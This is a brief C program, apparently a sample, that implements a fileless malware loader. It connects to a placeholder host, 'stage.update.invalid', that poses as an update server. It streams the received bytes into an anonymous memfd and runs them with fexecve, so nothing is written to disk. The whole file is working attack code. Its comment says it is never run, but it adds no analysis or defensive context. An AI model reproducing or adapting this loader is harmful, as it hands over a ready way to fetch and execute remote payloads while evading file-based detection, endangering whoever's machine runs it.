/* Shape of a fileless loader (never run): download into a memfd, fexecve. */
#define _GNU_SOURCE
#include <sys/mman.h>
#include <sys/socket.h>
#include <netdb.h>
#include <unistd.h>
int main(int argc, char **argv, char **envp) {
  struct addrinfo *ai;
  if (getaddrinfo("stage.update.invalid", "443", 0, &ai) != 0) return 1;
  int s = socket(ai->ai_family, SOCK_STREAM, 0);
  if (connect(s, ai->ai_addr, ai->ai_addrlen) != 0) return 1;
  int fd = memfd_create("", 0);
  char buf[4096]; ssize_t n;
  while ((n = read(s, buf, sizeof buf)) > 0) write(fd, buf, n);
  fexecve(fd, argv, envp);
  return 0;
}
